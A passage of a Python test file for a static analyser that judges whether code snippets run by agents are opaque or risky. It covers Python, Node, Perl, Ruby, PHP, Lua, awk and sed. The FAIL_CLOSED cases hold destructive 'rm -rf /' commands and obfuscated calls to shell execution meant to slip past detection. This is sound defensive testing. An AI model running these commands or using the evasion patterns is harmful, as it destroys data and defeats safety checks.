    ("python", "import os\nos.__dict__[x]('rm -rf /')", O, "os.__dict__[x] looks up a name"),
    ("python", "x['a'](1)", O, "x['a'] is looked up at run time"),
    ("python", "(a or b)('rm -rf /')", O, "a is not defined in the code"),
    ("python", "(a if c else b)('rm -rf /')", O, "cannot be resolved to a known function"),
    ("python", "getattr(obj, name_from_input)('rm -rf /')", O, "whose name is known only at run time"),
    ("python", "import os\ngetattr(os, name_from_input)('rm -rf /')", O, "getattr on os"),
    ("python", "__import__(var).system('id')", O, "computed at run time"),
    ("python", "globals()[name]('id')", O, "globals()[name] looks up a name"),
    ("python", "g = globals()\ng[name]('id')", O, "g[name] looks up a name"),
    ("python", "import os\nvars(os)[k]('id')", O, "vars(os)[k] looks up a name"),
    ("python", "import os\nvars(os).get(k)('id')", O, "from a namespace"),
    ("python", "import builtins\nbuiltins.__dict__[k]('id')", O, "looks up a name"),
    ("python", "__builtins__[k]('id')", O, "__builtins__[k] looks up a name"),
    ("python", "import os, operator\noperator.methodcaller(n, 'id')(os)", O, "a method known only at run time"),
    ("python", "import os, operator\nf = operator.methodcaller(n, 'id')\nf(os)", O, "known only at run time"),
    ("python", "import os, operator\noperator.attrgetter(n)(os)('id')", O, "gets a value known only at run time"),
    ("python", "eval(input())", O, "eval runs code built at run time"),
    ("python", "exec(s)", O, "exec runs code built at run time"),
    ("python", "eval('print')('x')", O, "returns a function known only at run time"),
    ("python", "f()()", O, "the function returned by f()"),
    ("python", "import os\nfor f in vars(os).values():\n    f('id')", O, "takes the items of vars(os).values()"),
    ("python", "def run(cb):\n    cb('rm -rf /')\nrun(x['y'])", O, "x['y'] is looked up at run time"),
    ("python", "def run(cb):\n    cb('rm -rf /')\nfns = [run]\nfns[0](print)", O, "its callers are not known"),
    ("python", "def mk(n):\n    return getattr(obj, n)\nmk('x')('rm -rf /')", O, "whose name is known only"),
    ("python", "type(x)('y')", O, "the class of a value known only at run time"),
    ("python", "import threading, sys\nthreading.Thread(target=sys.modules[k].system, args=('id',)).start()", O, "is passed as a value"),
    ("python", "import threading, os\nthreading.Thread(target=vars(os)[k]).start()", O, "vars(os)[k] is passed as a value"),
    ("python", "import os\nd = {'a': print, 'b': os.system}\nd[k]('rm -rf /')", O, "os.system"),
    ("python", "import os\n(os.system if c else print)('rm -rf /')", O, "os.system"),
    # node
    ("node", "require('child_process')[x]('rm -rf /')", O, "require('child_process')[x] is looked up"),
    ("node", "const cp = require('child_process'); cp[x]('rm -rf /')", O, "cp[x] is looked up"),
    ("node", "const fs = require('fs'); fs[m]('/etc')", O, "fs[m] is looked up"),
    ("node", "globalThis[x]('rm -rf /')", O, "globalThis[x] is looked up"),
    ("node", "process[x]('y')", O, "process[x] is looked up"),
    ("node", "(0, eval)(code)", O, "eval runs code built at run time"),
    ("node", "const h = {run: require('child_process').execSync}; h.run('rm -rf /')", O, "h.run is a member"),
    ("node", "const h = {run: require('child_process').execSync}; h[k]('id')", O, "h[k] is looked up"),
    ("node", "const cp = require('child_process'); cp['exec' + 'Sync']('rm -rf /')", C, ["rm -rf /"]),
    ("node", "const cp = require('child_process'); const f = c ? cp.execSync : console.log; f('rm -rf /')", C, ["rm -rf /"]),
    ("node", "const cp = require('child_process'); (c ? cp.execSync : console.log)('rm -rf /')", C, ["rm -rf /"]),
    ("node", "let f = console.log; f = require('child_process').execSync; f('rm -rf /')", C, ["rm -rf /"]),
    ("node", "const cp = require('child_process'); [cp.execSync][0]('rm -rf /')", C, ["rm -rf /"]),
    ("node", "const cp = require('child_process'); cp.execSync.call(null, 'rm -rf /')", C, ["rm -rf /"]),
    ("node", "const cp = require('child_process'); cp.execSync.apply(null, ['rm -rf /'])", C, ["rm -rf /"]),
    # perl
    ("perl", "my $m = 'system'; &$m('rm -rf /')", C, ["rm -rf /"]),
    ("perl", "my $m = 'system'; $m->('rm -rf /')", C, ["rm -rf /"]),
    ("perl", "&{\\&CORE::system}('id')", C, ["id"]),
    ("perl", "my $f = \\&CORE::system; $f->('id')", C, ["id"]),
    ("perl", "system { 'sh' } 'bash', '-c', 'id'", C, [("sh", "-c", "id")]),
    ("perl", "exec { $shell } '-sh'", O, "known only at run time"),
    ("perl", "&$x('id')", O, "$x holds a function known only at run time"),
    ("perl", "$h{$k}->('id')", O, "$h{$k} is looked up at run time"),
    ("perl", "$dispatch{$cmd}->(@args)", O, "is looked up at run time"),
    ("perl", "system({ dir => $x })", O, "system runs a program taken from a hash: {'dir': <unknown>}"),
    # perl does not compile a string ending with "$" (Final $ should be \$ or $name)
    ("perl", 'system("echo $")', O, "built at run time"),
    # ruby
    ("ruby", "method(x).call('id')", O, "method(x).call(...) calls a method known only at run time"),
    ("ruby", "method(:system).call('id')", C, ["id"]),
    ("ruby", 'system("echo #")', C, ["echo #"]),
    ("ruby", 'system("echo #{x}")', O, "built at run time"),
    # php
    ("php", "('sys' . 'tem')('id');", C, ["id"]),
    ("php", "'system'('id');", C, ["id"]),
    ("php", "$f = 'system'; $f('id');", C, ["id"]),
    ("php", "$f = $c ? 'system' : 'strlen'; $f('id');", C, ["id"]),
    ("php", "$fs = ['system']; $fs[0]('id');", C, ["id"]),
    ("php", "call_user_func($x, 'id');", O, "call_user_func calls a method whose name is computed"),
    ("php", "$m = $_GET['f']; $m('id');", O, "cannot be resolved to a known function"),
    ("php", "$obj->$m('id');", O, "$obj->$m is looked up by a key known only at run time"),
    ("php", 'system("echo $");', C, ["echo $"]),
    # after a name, "/" divides: it does not start a regex that hides what follows
    ("node", "let x = 4; let y = x / 2; require('child_process').execSync('rm -rf /'); let z = x / 2", C, ["rm -rf /"]),
    ("node", "const r = s.split(/'/); require('child_process').execSync('rm -rf /')", C, ["rm -rf /"]),
    # a line that starts with "(" continues a call where a line break ends no statement
    ("node", "require('child_process').execSync\n('rm -rf /')", C, ["rm -rf /"]),
    ("node", "const cp = require('child_process')\ncp.execSync\n  ('rm -rf /')", C, ["rm -rf /"]),
    ("perl", "system\n('rm -rf /');", C, ["rm -rf /"]),
    ("php", "system\n('rm -rf /');", C, ["rm -rf /"]),
    ("ruby", "system\n('rm -rf /')", C, []),  # Ruby: two statements, a call of system with no command
]


@pytest.mark.parametrize("lang, src, expect, detail", FAIL_CLOSED)
def test_unresolved_callees_fail_closed(lang, src, expect, detail):
    f = analyse_code(lang, src)
    if expect == O:
        assert f.opaque and f.risk in (Risk.UNKNOWN, Risk.HIGH), f
        assert detail in f.opaque_reason or any(detail in w for w in f.why), f
    else:
        assert not f.opaque and f.commands == tuple(detail), f
    for why in f.why:
        assert "_Unknown(" not in why and "Resolution(" not in why, why


# Code agents run every day: nothing in it is opaque, and it stays LOW (reads only; a write is MEDIUM).
EVERYDAY = [
    ("python", "import json; print(json.dumps({'a': 1}))"),
    ("python", "import sys; print(sys.argv[1:])"),
    ("python", "print([x * 2 for x in range(10)])"),
    ("python", "print({k: v for k, v in zip('abc', range(3))})"),
    ("python", "name = 'x'; print(f'hello {name}!')"),
    ("python", "import os; print(os.getcwd(), os.environ.get('HOME'))"),
    ("python", "data = {'a': [1, 2]}; data['a'].append(3); print(data.get('a'))"),
    ("python", "import os.path; print(os.path.join('a', 'b'))"),
    ("python", "lst = []; lst.append(1); lst.extend([2, 3]); print(sorted(lst, reverse=True))"),
    ("python", "import re; print(re.sub(r'\\d+', lambda m: str(int(m.group()) + 1), 'a1b22'))"),
    ("python", "from collections import defaultdict, Counter; d = defaultdict(list); d['a'].append(1); print(Counter('hello').most_common(2))"),
    ("python", "import datetime; print(datetime.datetime.now().isoformat())"),
    ("python", "def f(x):\n    return x * 2\nprint(f(3))"),
    ("python", "class A:\n    def __init__(self, x):\n        self.x = x\n    def get(self):\n        return self.x\nprint(A(1).get())"),
    ("python", "class A:\n    def __call__(self, x):\n        return x\na = A()\nprint(a(1))"),
    ("python", "class K:\n    def clone(self):\n        return type(self)()\nprint(K().clone())"),
    ("python", "import functools\n@functools.lru_cache(maxsize=None)\ndef fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)\nprint(fib(30))"),
    ("python", "def deco(fn):\n    def wrapper(*a, **k):\n        return fn(*a, **k)\n    return wrapper\n@deco\ndef g():\n    return 1\nprint(g())"),
    ("python", "import time\ndef bench(f):\n    t = time.time(); f(); print(time.time() - t)\nbench(lambda: sum(range(10**6)))"),
    ("python", "def apply(fn, x):\n    return fn(x)\nprint(apply(len, 'abc'), apply(str.upper, 'a'))"),
    ("python", "square = lambda x: x * x\nprint(square(4), (lambda y: y + 1)(2))"),
    ("python", "ops = {'add': lambda a, b: a + b, 'sub': lambda a, b: a - b}\nprint(ops['add'](1, 2))"),
    ("python", "for f in (len, str, repr):\n    print(f('ab'))"),
    ("python", "def outer():\n    def inner():\n        return 1\n    return inner\nprint(outer()())"),
    ("python", "import numpy as np\na = np.array([1, 2]); print(a.mean(), np.vectorize(lambda x: x + 1)(a))"),
    ("python", "import torch\nimport torch.nn as nn\nmodel = nn.Sequential(nn.Linear(2, 3)).to('cpu')\nprint(model(torch.zeros(1, 2)).shape)"),
    ("python", "import jax\nf = jax.jit(lambda x: x * 2)\nprint(f(3), jax.grad(lambda x: x ** 2)(3.0))"),
    ("python", "import pandas as pd\ndf = pd.read_csv('data.csv')\nprint(df.groupby('a').agg({'b': 'sum'}).head())"),
    ("python", "with open('data.txt') as fh:\n    for line in fh:\n        print(line.strip())"),
    ("python", "import argparse\np = argparse.ArgumentParser(); p.add_argument('--n', type=int); print(p.parse_args().n)"),
    ("python", "x = 3\nprint('even' if x % 2 == 0 else 'odd', max([1, 5, 3], key=lambda v: -v))"),
    ("python", "import subprocess\nprint(subprocess.run(['git', 'status'], capture_output=True, text=True).stdout)"),
    ("python", "try:\n    import yaml\nexcept ImportError:\n    yaml = None\nprint(yaml)"),
    ("python", "import logging\nlog = logging.getLogger(__name__)\nlog.info('x')"),
    ("python", "import asyncio\nasync def main():\n    await asyncio.sleep(0)\nasyncio.run(main())"),
    ("python", "class B:\n    @classmethod\n    def make(cls):\n        return cls()\nprint(B.make())"),
    ("python", "import functools, operator\nadd = functools.partial(lambda a, b: a + b, 1)\nprint(add(2), operator.itemgetter(1)([1, 2]))"),
    ("python", "print(getattr(obj, 'name', None))"),
    # "this is not python" is valid Python: the identity comparison `this is not python`
    ("python", "this is not python"),
    ("node", "console.log(process.version)"),
    ("node", "console.log(JSON.stringify({a: 1}, null, 2))"),
    ("node", "const path = require('path'); console.log(path.join(__dirname, 'a', 'b'))"),
    ("node", "[3, 1, 2].sort((a, b) => a - b).forEach(n => console.log(n))"),
    ("node", "const m = new Map(); m.set('a', 1); console.log(m.get('a'))"),
    ("node", "(async () => { console.log(await Promise.all([1, 2])) })()"),
    ("node", "(function () { console.log(1) })()"),
    ("node", "const o = {a: 1, b: 2}; for (const [k, v] of Object.entries(o)) console.log(k, v)"),
    ("node", "const debug = require('debug')('app'); debug('starting')"),
    ("node", "const add = (a) => (b) => a + b; console.log(add(1)(2))"),
    ("node", "const o = {f: () => 1, g: function () { return 2 }}; console.log(o.f(), o.g(), o.toString())"),
    ("node", "const log = verbose ? console.log : () => {}; log('x')"),
    ("node", "console[level]('msg')"),
    ("node", "setTimeout(() => console.log('done'), 100)"),
    ("perl", 'print "hello\\n";'),
    ("perl", "my @a = (3, 1, 2); print join(',', sort { $a <=> $b } @a), \"\\n\";"),
    ("perl", "my %h = (a => 1, b => 2); for my $k (sort keys %h) { printf(\"%s=%d\\n\", $k, $h{$k}); }"),
    ("perl", "my $sum = 0; $sum += $_ for 1..10; print $sum;"),
    ("perl", "my $cb = sub { return $_[0] * 2 }; print $cb->(21);"),
    ("perl", "my $obj = Foo->new(); $obj->run('x');"),
    ("ruby", "puts [3, 1, 2].sort.map { |x| x * 2 }.inspect"),
    ("ruby", "h = { a: 1 }; h.each { |k, v| puts \"#{k}=#{v}\" }"),
    ("ruby", "require 'json'; puts JSON.pretty_generate({ 'a' => 1 })"),
    ("ruby", "sq = ->(x) { x * x }; puts sq.call(3)"),
    ("ruby", "puts \"price: 5#\""),
    ("php", "<?php echo 'hello', PHP_EOL;"),
    ("php", "echo json_encode(['a' => 1]);"),
    ("php", "$f = function($x) { return $x * 2; }; echo $f(21);"),
    ("php", "echo array_sum(array_map(fn($x) => $x * 2, [1, 2, 3]));"),
    ("php", "class A { public function hi() { return 'hi'; } } $a = new A(); echo $a->hi();"),
    ("php", 'echo "cost: 5$";'),
    ("lua", "print(1)"),
    ("lua", "print(_VERSION)"),
    ("lua", "print(os.time(), os.date('%Y-%m-%d'), os.clock())"),
    ("lua", "print(os.getenv('HOME'))"),
    ("lua", "for i = 1, 10 do print(i) end"),
    ("lua", "local t = {} t[#t + 1] = 1 print(#t)"),
    ("lua", "print(string.format('%d %s', 5, 'x'))"),
    ("lua", "local s = 'hello' print(s:upper(), s:rep(2), ('x'):byte())"),
    ("lua", "local t = {3, 1, 2} table.sort(t, function(a, b) return a > b end) print(table.concat(t, ','))"),
    ("lua", "for k, v in pairs({a = 1, b = 2}) do print(k, v) end"),
    ("lua", "local function fib(n) if n < 2 then return n end return fib(n - 1) + fib(n - 2) end print(fib(20))"),
    ("lua", "local function apply(f, x) return f(x) end print(apply(math.abs, -1), apply(tostring, 2))"),
    ("lua", "local ok, err = pcall(error, 'boom') print(ok, err)"),
    ("lua", "local ok, v = pcall(function() return 1 end) print(ok, v)"),
    ("lua", "print(xpcall(function() return 1 end, debug.traceback))"),
    ("lua", "local M = {} function M.greet(name) return 'hi ' .. name end print(M.greet('x'))"),
    ("lua", "local Obj = {} Obj.__index = Obj function Obj.new() return setmetatable({}, Obj) end function Obj:hi() return 1 end print(Obj.new():hi())"),
    ("lua", "for line in io.lines() do io.write(line:reverse(), '\\n') end"),
    ("lua", "print(io.read('*a'):len())"),
    ("lua", "local f = io.open('data.txt') print(f:read('*a')) f:close()"),
    ("lua", "for line in io.lines('data.txt') do print(line) end"),
    ("lua", "local cjson = require 'cjson' print(cjson.encode({a = 1}))"),
    ("lua", "local ok, lfs = pcall(require, 'lfs') print(ok)"),
    ("lua", "print(('a,b,c'):gsub(',', ';'))"),
    ("lua", "local s = [[\nmulti\nline]] print(#s)"),
    ("lua", "goto done print('skipped') ::done:: print('ok')"),
    ("lua", "local t = setmetatable({}, {__index = function(t, k) return k end}) print(t.x)"),
    ("lua", "print(math.floor(3.7), math.max(1, 2), 7 // 2, 2 ^ 10, 5 ~= 6)"),
    ("lua", "local t = {load = 1, require = 2} print(t.load)"),
    ("lua", "io.write(string.rep('-', 20), '\\n') os.exit(0)"),
    ("awk", "{print $1}"),
    ("awk", "{ print $NF }"),
    ("awk", "NR>1 {s+=$2} END {print s}"),
    ("awk", "{a[$1]++} END {for (k in a) print k, a[k]}"),
    ("awk", "length($0) > 80"),
    ("awk", "/error/ {c++} END {print c+0}"),
    ("awk", "BEGIN{FS=\",\"} {print $2}"),
    ("awk", "{printf \"%-10s %s\\n\", $1, $2}"),
    ("awk", "NR==FNR{a[$1];next} $1 in a"),
    ("awk", "{gsub(/foo/, \"bar\"); print}"),
    ("awk", "{ print > \"/dev/stderr\" }"),
    ("awk", "{ n = split($0, parts, \":\"); print parts[n] }"),
    ("awk", "$3 > 100 { print $1 }"),
    ("awk", "{ sum[$1] += $2 } END { for (k in sum) printf(\"%s %d\\n\", k, sum[k]) }"),
    ("awk", "BEGIN { OFS = \"\\t\" } { $1 = $1; print }"),
    ("awk", "NF { print tolower($0) }"),
    ("awk", "{ print substr($0, 1, 10), index($0, \"x\"), length }"),
    ("awk", "END { print NR }"),
    ("awk", "BEGIN { while ((getline line) > 0) n++; print n }"),
    ("awk", "function max(a, b) { return a > b ? a : b } { m = max(m, $1) } END { print m }"),
    ("awk", "/^#/ { next } { print }"),
    ("awk", "{ if ($2 ~ /^[0-9]+$/) print $2 / 2 }"),
    ("sed", "1,10p"),
    ("sed", "s/foo/bar/g"),
    ("sed", "s/a/b/"),
    ("sed", "s/(x)+/\\1/"),
    ("sed", "/^#/d"),
    ("sed", "/start/,/end/p"),
    ("sed", "1d"),
    ("sed", "$d"),
    ("sed", "s|/usr/local|/opt|g"),
    ("sed", "s/\\//\\\\/g"),
    ("sed", "s/a/b/\ns/c/d/"),
    ("sed", "/foo/a\\\nbar"),
    ("sed", "2i hello"),
    ("sed", ":a;N;$!ba;s/\\n/ /g"),
    ("sed", "y/abc/xyz/"),
    ("sed", "/x/{s/a/b/;s/c/d/}"),
    ("sed", "$="),
    ("sed", "s/[[:space:]]*$//"),
    ("sed", "s/a/b/2"),
    ("sed", "s/a/b/gI"),
    ("sed", "l"),
    ("sed", "5q"),
    ("sed", "0~3d"),
    ("sed", "1~2!d"),
    ("sed", "/re/I,+2d"),
    ("sed", "s/'//g"),
    ("sed", "#n\np"),
    ("sed", "s/x/y/w /dev/stdout"),
    ("sed", "\\%/usr%d"),
    ("sed", "N;s/\\n/\\t/"),
    ("sed", "s/^[ \\t]*//;s/[ \\t]*$//"),
    ("sed", "/^$/N;/\\n$/D"),
]


@pytest.mark.parametrize("lang, src", EVERYDAY)
def test_everyday_code_stays_low(lang, src):
    f = analyse_code(lang, src)
    assert not f.opaque and f.risk is Risk.LOW and all(kind == "read" for kind, _, _ in f.effects), f


def test_everyday_write_is_a_write_effect():
    f = analyse_code("python", "open('out.txt', 'w').write(x)")
    assert not f.opaque and f.effects == (("write", "out.txt", False),) and f.risk is Risk.MEDIUM


_UNKNOWN_NAMES = st.sampled_from(["a", "b", "fn", "obj", "handlers", "x_1", "data", "cb"])


def _callee_expr(leaf: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Python callee expressions built of unknown values: subscripts, calls, conditionals."""
    return st.recursive(
        leaf,
        lambda inner: st.one_of(
            st.builds(lambda v, k: f"{v}[{k}]", inner, st.one_of(inner, st.just("'k'"), st.just("0"))),
            st.builds(lambda v, a: f"{v}({a})", inner, st.one_of(inner, st.just(""), st.just("'x'"))),
            st.builds(lambda a, c, b: f"({a} if {c} else {b})", inner, inner, inner),
            st.builds(lambda a, b, op: f"({a} {op} {b})", inner, inner, st.sampled_from(["or", "and"])),
        ),
        max_leaves=6,
    )


@settings(max_examples=300, deadline=None)
@given(
    callee=_callee_expr(_UNKNOWN_NAMES).filter(lambda s: not s.isidentifier()),
    arg=st.sampled_from(["'rm -rf /'", "x", ""]),
)
def test_a_callee_of_unknown_values_is_opaque(callee, arg):
    f = analyse_code("python", f"{callee}({arg})")
    assert f.opaque and f.risk in (Risk.UNKNOWN, Risk.HIGH), (callee, f)
